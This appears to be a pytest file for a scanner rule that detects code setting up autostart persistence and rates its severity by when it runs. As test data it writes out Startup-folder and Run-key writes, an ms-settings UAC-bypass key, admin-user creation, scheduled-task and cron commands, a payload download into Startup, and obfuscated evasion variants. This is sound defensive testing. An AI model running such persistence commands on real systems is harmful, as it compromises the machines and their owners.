"""What is set up to start by itself, by when, each beside near misses."""

# ruff: noqa: E501 - a table reads best with one case in a line

from __future__ import annotations

import pytest

from assay.rules.autostart import autostart_of, is_run_key, registers
from assay.rules.persist_001_autostart import RULE
from tests.behaviour import at, findings, worst

_HEAD = "import os, subprocess, winreg, shutil, sys, requests\n"
_STARTUP = "os.getenv('APPDATA') + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\a.pyw'"
_HIGHER = "k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Classes\\\\ms-settings\\\\shell\\\\open\\\\command')\nwinreg.SetValueEx(k, '', 0, 1, 'b')"
_RUN = "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, 2)\nwinreg.SetValueEx(k, 'a', 0, 1, 'b')"


def severity(trigger: str, source: str) -> str:
    return worst(RULE, *at(trigger, _HEAD + source))


@pytest.mark.parametrize(
    ("trigger", "source", "expected"),
    [
        ("install", f"open({_STARTUP}, 'w').write('a')", "critical"),
        ("import", f"open({_STARTUP}, 'w').write('a')", "high"),
        ("call", f"open({_STARTUP}, 'w').write('a')", "medium"),
        ("test", f"open({_STARTUP}, 'w').write('a')", "info"),
        ("call", f"shutil.copy(sys.argv[0], {_STARTUP})", "high"),
        ("call", f"open({_STARTUP}, 'wb').write(requests.get('https://h.example.invalid/').content)", "high"),
        ("install", _RUN, "critical"),
        ("call", _RUN, "medium"),
        ("install", _HIGHER, "critical"),
        ("call", _HIGHER, "high"),
        ("install", "subprocess.check_output('net user /add a b', shell=True)", "critical"),
        ("install", "os.system('net localgroup administrators a /add')", "critical"),
        ("call", "os.system('useradd demo')", "medium"),
        ("install", "os.system('schtasks /create /tn a /tr b /sc onlogon')", "critical"),
        ("import", "subprocess.run(['crontab', 'a.txt'])", "high"),
        ("call", "subprocess.run(['launchctl', 'load', 'a.plist'])", "medium"),
        ("import", "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('a')", "high"),
        ("import", "open('/etc/systemd/system/a.service', 'w').write('a')", "high"),
        ("import", "open('.git/hooks/pre-commit', 'w').write('a')", "medium"),
        ("call", "open('.git/hooks/pre-commit', 'w').write('a')", "low"),
        ("import", "open(os.path.expanduser('~/.cursor/mcp.json'), 'w').write('a')", "high"),
        ("import", "open('.cursor/mcp.json', 'w').write('a')", "medium"),
        ("install", "os.system('echo a >> ~/.bashrc')", "critical"),
    ],
)  # fmt: skip
def test_what_is_set_up(trigger: str, source: str, expected: str) -> None:
    assert severity(trigger, source) == expected


@pytest.mark.parametrize(
    "source",
    [
        "open(os.path.expanduser('~/.bashrc')).read()",
        "open(os.path.join(os.getenv('APPDATA'), 'demo', 'a.txt'), 'w').write('a')",
        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Demo', 0, 2)\nwinreg.SetValueEx(k, 'a', 0, 1, 'b')",
        "winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')",
        "os.system('crontab -l')",
        "os.system('net user')",
        "k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Classes\\\\demo\\\\shell\\\\open\\\\command')\nwinreg.SetValueEx(k, '', 0, 1, 'b')",
        "subprocess.run(['systemctl', 'status', 'a'])",
        "open('startup/demo.txt', 'w').write('a')",
        "os.system('schtasks /query')",
    ],
)
def test_near_misses(source: str) -> None:
    assert severity("import", source) == "none"


@pytest.mark.parametrize(
    "source",
    [
        "from winreg import OpenKey as o, SetValueEx as s, HKEY_CURRENT_USER as h\ns(o(h, 'SOFTWARE\\\\Microsoft\\\\Windows\\\\' + 'Current' + 'Version\\\\Run'), 'a', 0, 1, 'b')",
        "c = 'sch' + 'tasks'\ngetattr(os, 'sys' + 'tem')(c + ' /create /tn a')",
        "def put(p):\n    with open(p, 'w') as f: f.write('a')\nput(os.path.join(os.environ['APPDATA'], 'Microsoft/Windows/Start Menu/Programs/Startup', 'a.bat'))",
        "import pathlib\n(pathlib.Path.home() / '.config' / 'autostart' / 'a.desktop').write_text('a')",
    ],
)
def test_mutations_change_nothing(source: str) -> None:
    assert severity("install", source) == "critical"


def test_says_what_starts() -> None:
    (found,) = findings(RULE, *at("import", _HEAD + "os.system('launchctl load a.plist')"))
    assert found.evidence == ("a command that registers: launchctl load a.plist",)


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("…\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat", "a start-up folder"),
        ("~/Library/LaunchAgents/a.plist", "a launch agent"),
        ("/etc/cron.d/a", "a cron table"),
        ("~/.zshrc", "a file that shells run"),
        (".github/workflows/a.yml", "a workflow"),
        (".vscode/tasks.json", "a task of an editor"),
        ("systemd/README", ""),
        ("profile.py", ""),
    ],
)
def test_files_that_start(path: str, kind: str) -> None:
    found = autostart_of(path)
    assert (found[0] if found else "") == kind


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a", True),
        ("reg query HKCU\\Software", False),
        ("(crontab -l; echo a) | crontab -", True),
        ("sc create a", True),
        ("systemctl restart a", False),
    ],
)
def test_commands_that_register(command: str, expected: bool) -> None:
    assert registers(command) is expected


def test_keys_that_windows_starts() -> None:
    assert is_run_key("Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce")
    assert not is_run_key("Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall")
